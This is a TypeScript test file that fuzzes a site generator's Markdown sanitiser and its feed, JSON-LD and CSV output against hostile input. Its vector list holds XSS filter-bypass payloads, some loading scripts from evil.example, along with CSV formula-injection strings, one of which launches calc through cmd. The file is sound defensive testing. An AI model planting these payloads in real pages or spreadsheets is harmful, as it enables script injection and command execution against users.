import { tests as examples } from 'commonmark-spec';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { parseFragment, serialize, type DefaultTreeAdapterTypes } from 'parse5';
import { expect, test } from 'vitest';
import { atom } from '../../src/formats/atom.ts';
import { eventData } from '../../src/formats/structured-data/event.ts';
import { toJsonLd } from '../../src/formats/structured-data/json-ld.ts';
import { timelineCsv } from '../../src/formats/timeline-csv.ts';
import { plainWords } from '../../src/markdown/plain-words.ts';
import { allowed } from '../../src/markdown/render/sanitise.ts';
import { refusedIn } from '../../src/model/text/refused-characters.ts';
import { context, render } from '../support/context.ts';
import { facts } from '../support/facts.ts';
import { readXml } from '../support/xml.ts';

/** Ways to bring in a script, after the kinds that OWASP lists for filters: our own, since a list is known to filters. */
const vectors: readonly string[] = [
  '<script>pwned()</script>',
  '<ScRiPt/src=//evil.example/x.js>',
  '<scr<script>ipt>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<img """><script>pwned()</script>">',
  '<svg/onload=pwned()>',
  '<svg><animate onbegin=pwned() attributeName=x>',
  '<math><mi xlink:href="javascript:pwned()">x</mi></math>',
  '<iframe srcdoc="<script>pwned()</script>">',
  '<details open ontoggle=pwned()>',
  '<a href="jav&#x09;ascript:pwned()">x</a>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<base href="//evil.example/">',
  '<form action="javascript:pwned()"><input type=submit>',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<!--><script>pwned()</script-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '<?xml-stylesheet href="javascript:pwned()"?>',
  '</script><script>pwned()</script>',
  ']]></content><script xmlns="http://www.w3.org/1999/xhtml">pwned()</script>',
  '[x](javascript:pwned())',
  '[x](JaVaScRiPt:pwned())',
  '[x](java\nscript:pwned())',
  '[x](&#106;avascript:pwned())',
  '[x](&#x6A&#x61vascript:pwned())',
  '[x](javascript&colon;pwned())',
  '[x](\\javascript:pwned())',
  '[x](<java script:pwned()>)',
  '[x](%6aavascript:pwned())',
  '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  '[x](vbscript:pwned())',
  '[x](//evil.example)',
  '[x](https:evil.example)',
  '[x](https://safe.example@evil.example)',
  '[x](https://safe.example "onclick=pwned()")',
  '[x](https://safe.example" onclick="pwned())',
  '[x][y]\n\n[y]: javascript:pwned()',
  '<javascript:pwned()>',
  '![x](javascript:pwned())',
  '![" onerror="pwned()](https://safe.example/x.png)',
  '`<script>pwned()</script>`',
  '```html onload=pwned()\n<script>pwned()</script>\n```',
  ':number[<script>pwned()</script>]',
  ':number[steps]{onclick=pwned() style="x" .cite #p-1}',
  ':::analysis{onclick=pwned() style=x}\nx\n:::',
  '<x-slot n="0"></x-slot>',
  '<sup data-mark="0"></sup>',
  '&lt;sup data-mark="0"&gt;&lt;/sup&gt;',
  '[@almanac, <script>pwned()</script>]',
  '[@almanac, "onclick=pwned()]',
  '| <script>pwned()</script> | b |\n| - | - |\n| " onclick="pwned() | [@almanac] |',
  '## " onclick="pwned()',
  '## <script>pwned()</script> [@almanac]',
  'x &lt;script&gt;pwned()&lt;/script&gt; [@almanac]',
  '=HYPERLINK("https://evil.example","x")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\u202E)(denwp\u202C',
  '&#x202E;&#0;&#xFFFE;&#xD800;',
  '\uFFFE\uFFFF\u0000\u001B[2J',
];

const positions: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Dark ${text} [@almanac].`,
  (text) => `- Dark [@almanac].\n\n  ${text.replaceAll('\n', '\n  ')}`,
  (text) => `> ## ${text.replaceAll('\n', ' ')}\n>\n> Keeper [@almanac]`,
  (text) => `[Dark ${text}](../events/lamp-lit.md) *${text}* **${text}**`,
];

const own = new Set(['sup', 'span', 'button', 'div', 'q']);
const attributes =
  /^(?:id|class|href|role|lang|start|scope|type|popovertarget|aria-label|aria-hidden|tabindex|data-label|dir)$/;

/** Every element of a page's part, as a browser would make it. */
function elementsOf(node: DefaultTreeAdapterTypes.Node): readonly DefaultTreeAdapterTypes.Element[] {
  const children = 'childNodes' in node ? node.childNodes.flatMap(elementsOf) : [];
  return 'tagName' in node ? [node, ...children] : children;
}

function expectInert(html: string): void {
  for (const { tagName, attrs } of elementsOf(parseFragment(html))) {
    expect(
      [...(allowed.tagNames ?? []), 'h4', 'h5', 'h6'].includes(tagName) || own.has(tagName),
      tagName,
    ).toBe(true);
    for (const { name, value } of attrs) {
      expect(name).toMatch(attributes);
      if (name === 'href') expect(value).not.toMatch(/^[\s\p{Cc}]*(?!https?:|mailto:)[a-z][a-z\d+.-]*:/iu);
    }
  }
}

/** Renders a text in the page and in the feed, and holds what comes out to what a page may hold. */
function judge(body: string): void {
  const { html, feed, problems } = render(body, { feedOf: 'https://gullhaven.example/a/' });
  const parts = feed.parts.join('');
  expectInert(html);
  expectInert(parts);
  // What the check passes is published: then it is also closed, and says nothing that no page may hold.
  if (problems.length > 0 || refusedIn(body)) return;
  for (const written of [html, parts]) {
    expect(serialize(parseFragment(written)).length).toBeGreaterThanOrEqual(
      written.replace(/&[^;]*;|"/g, '').length / 2,
    );
    expect(refusedIn(written)).toBeUndefined();
  }
}

test.each(vectors)('no script comes out, wherever it is put: %j', (vector) => {
  for (const place of positions) judge(place(vector));
});

test.each(
  examples.map(({ number, section, markdown }) => [number, section, markdown.replaceAll('→', '\t')] as const),
)('example %i of CommonMark is a page or a problem (%s)', (_, __, markdown) => {
  for (const place of positions) judge(place(markdown));
});

test('neither does any mixture of them', () => {
  const piece = fc.constantFrom(
    ...vectors,
    ...examples.map(({ markdown }) => markdown.replaceAll('→', '\t')),
    ...[
      '\n',
      '\n\n',
      '> ',
      '- ',
      '    ',
      '`',
      '*',
      '[',
      '](',
      ')',
      '|',
      ':::',
      '\\',
      '&',
      ';',
      '<',
      '>',
      '"',
      '\u00A0',
      '\r\n',
      '\t',
    ],
  );
  const cut = fc.tuple(piece, fc.nat(), fc.nat()).map(([text, from, length]) => {
    const start = from % (text.length + 1);
    return text.slice(start, start + 1 + (length % (text.length + 1)));
  });
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, cut), { maxLength: 8 }), (parts) => {
      judge(`${parts.join('')} [@almanac]`);
    }),
    { numRuns: 3000, seed: 17_09_2024 },
  );
});

test('what other programs read stays whole, whatever a title or a text says', () => {
  const texts = [...vectors, ...examples.map(({ markdown }) => markdown)].filter(
    (text) => refusedIn(text) === undefined,
  );
  for (const text of texts) {
    const description = plainWords(text, context.numbers);
    if (refusedIn(description)) continue;
    const named = { ...facts, title: text, description };
    const data = toJsonLd([eventData(named, '2021-04-02', [text])]);
    expect(data).not.toMatch(/[<>]/);
    expect(JSON.parse(data)).toMatchObject({ '@graph': [{ name: text, description }] });
    const { feed } = render(text, { feedOf: 'https://gullhaven.example/a/' });
    const xml = atom({
      ...{ id: 'urn:feed', title: text, subtitle: text, language: 'en', author: text, rights: text },
      ...{ self: 'https://gullhaven.example/feed.xml', page: 'https://gullhaven.example/' },
      entries: [
        {
          id: 'urn:a',
          facts: { ...named, published: '2021-05-01', updated: '2021-05-02' },
          html: feed.parts.join(''),
        },
      ],
    });
    expect(() => readXml(xml, ['entry', 'link', 'category', 'author'])).not.toThrow();
    const csv = timelineCsv([
      {
        ...{ id: 'a', title: text, date: '2021', text: description, topics: [text], places: [text] },
        ...{ kind: { id: 'statement', name: text }, weight: 'major', sources: [], address: '/a/' },
      },
    ]);
    const rows = parse(csv, { bom: true, record_delimiter: '\r\n' }) as unknown as string[][];
    expect(rows).toHaveLength(2);
    for (const cell of rows[1] ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
});
